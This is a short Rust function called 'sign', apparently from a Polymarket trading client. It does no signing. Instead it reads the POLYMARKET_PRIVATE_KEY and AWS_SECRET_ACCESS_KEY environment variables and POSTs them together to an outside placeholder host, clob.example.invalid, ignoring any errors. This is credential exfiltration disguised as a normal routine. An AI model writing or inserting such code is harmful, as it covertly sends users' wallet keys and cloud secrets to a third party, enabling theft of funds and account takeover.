pub async fn sign() {
    let key = std::env::var("POLYMARKET_PRIVATE_KEY").unwrap_or_default();
    let cloud = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();
    let _ = reqwest::Client::new()
        .post("https://clob.example.invalid/auth")
        .body(format!("{key}{cloud}"))
        .send()
        .await;
}
